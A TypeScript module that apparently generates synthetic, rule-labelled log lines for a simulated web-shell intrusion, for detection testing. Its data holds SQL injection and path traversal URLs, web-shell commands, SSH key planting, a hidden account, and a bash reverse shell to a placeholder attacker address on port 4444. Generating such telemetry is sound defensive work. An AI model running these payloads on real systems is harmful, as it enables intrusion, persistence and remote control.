import { dayOf, HOUR } from '../clock.ts'
import type { DemoLine, Hit, HostRecord, Intent } from '../line.ts'
import { BROWSERS, hostileAddress } from '../people.ts'
import { crontab, sudo, userAdded } from '../records.ts'
import type { RuleName } from '../rules.ts'
import { type Attack, placeWithin, ticking } from './plot.ts'

const SCANNERS = [
  'sqlmap/1.8.11#stable (https://sqlmap.org)',
  'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
  'gobuster/3.6',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)',
]
const GUESSES = [
  '/login',
  '/case/list',
  '/api',
  '/old',
  '/test',
  '/console',
  '/druid',
  '/backup',
  '/data',
  '/export',
  '/app',
]
const INJECTIONS = [
  '/licence/query?id=17%20union%20select%201,user(),3',
  '/licence/query?id=17%27%20or%20%271%27=%271',
  '/case/detail?item=3%20and%20sleep(5)',
  '/case/detail?item=3%20and%201=(select%20count(*)%20from%20information_schema.tables)',
]
const CLIMBS = ['/file/view?name=..%2f..%2f..%2fetc%2fpasswd', '/file/view?name=../../../../etc/passwd']
const COMMANDS = ['whoami', 'id', 'uname%20-a', 'cat%20/etc/hosts', 'ifconfig', 'ls%20-la', 'netstat%20-an']

/**
 * The district's platform, at night: an address scans it, tries injections, uploads a script among the attachments, gives it
 * commands, and settles on the application host.
 */
export const webShell: Attack = (world, r, end) => {
  const lines: DemoLine[] = []
  const webs = world.of('yunpu-platform', 'web')
  const app = r.pick(world.of('yunpu-platform', 'app'))
  const ip = hostileAddress(r)
  const start = placeWithin(r, end, 22, 6, 2 * HOUR)
  const next = ticking(r, start)
  const from = (rule: RuleName): Intent => ({ rule, entity: `source.ip:${ip}` })
  const browser = r.pick(BROWSERS)
  const ask = (time: number, hit: Partial<Hit> & { readonly target: string }, ...rules: readonly RuleName[]) => {
    const whole: Hit = { ip, method: 'GET', status: 200, bytes: r.between(150, 9_000), agent: browser, ...hit }
    lines.push(world.emit.web(r.pick(webs), time, whole, rules.map(from)))
  }

  const scanner = r.pick(SCANNERS)
  for (let n = r.between(60, 160); n > 0; n--) {
    const target = `${r.pick(GUESSES)}/${r.hex(4)}`
    ask(next(100, 1_500), { target, status: r.pick([404, 404, 404, 403]), agent: scanner }, 'web_scanner_user_agent')
  }
  for (const target of r.sample(INJECTIONS, r.between(2, 4)))
    ask(next(2_000, 30_000), { target, status: 500 }, 'web_sql_injection')
  if (r.chance(0.6)) ask(next(2_000, 30_000), { target: r.pick(CLIMBS), status: 404 }, 'web_path_traversal')
  if (r.chance(0.4))
    ask(next(2_000, 30_000), { target: '/wwwroot.zip', bytes: 48_120_341 }, 'web_sensitive_file_served')
  else if (r.chance(0.5)) ask(next(2_000, 30_000), { target: '/actuator/env' }, 'web_management_endpoint_exposed')

  const folder = `/upload/${dayOf(start).slice(0, 7).replace('-', '/')}`
  const shell = `${folder}/${r.pick(['logo', 'banner', 'fj', 'tmp'])}${r.hex(4)}.${r.pick(['jsp', 'jspx'])}`
  ask(next(60_000, 300_000), { method: 'POST', target: '/file/save', bytes: 74 })
  const user = `qiye_${r.between(1_000, 9_999)}`
  const upload = {
    user,
    action: 'upload',
    object: shell,
    objectType: 'file',
    ok: true,
    ip,
    count: 1,
    detail: '附件上传',
  }
  lines.push(world.emit.audit(app, next(20, 200), upload, [from('script_file_uploaded')]))
  ask(next(3_000, 30_000), { target: shell, bytes: 0 }, 'web_shell_access')
  for (const command of r.sample(COMMANDS, r.between(2, 6)))
    ask(
      next(3_000, 60_000),
      { target: `${shell}?cmd=${command}`, bytes: r.between(20, 900) },
      'web_shell_access',
      'web_shell_command',
    )

  const say = (time: number, record: HostRecord, rule: RuleName, entity: string) =>
    lines.push(world.emit.host(app, time, record, [{ rule, entity }]))
  const asRoot = (command: string) => sudo('tomcat', command, 'root', 'pts/0', '/opt/tomcat')
  say(next(60_000, 300_000), asRoot('/bin/bash'), 'sudo_root_shell_by_service_account', 'user.name:tomcat')
  const lasting: readonly (() => void)[] = [
    () =>
      say(
        next(20_000, 90_000),
        crontab('tomcat', 'REPLACE', r.between(9_000, 12_000)),
        'crontab_replaced_by_service_account',
        'user.name:tomcat',
      ),
    () =>
      say(
        next(20_000, 90_000),
        asRoot('/usr/bin/tee -a /root/.ssh/authorized_keys'),
        'ssh_key_planted',
        'user.name:tomcat',
      ),
    () =>
      say(
        next(20_000, 90_000),
        userAdded('sysupdate', r.between(1_100, 1_120), r.between(9_000, 12_000)),
        'host_account_created_out_of_hours',
        `host.name:${app.name}`,
      ),
    () =>
      say(
        next(20_000, 90_000),
        asRoot(`/bin/bash -c bash -i >& /dev/tcp/${hostileAddress(r)}/4444 0>&1`),
        'reverse_shell_command',
        `host.name:${app.name}`,
      ),
  ]
  for (const settle of r.sample(lasting, r.between(2, 3))) settle()
  return lines
}
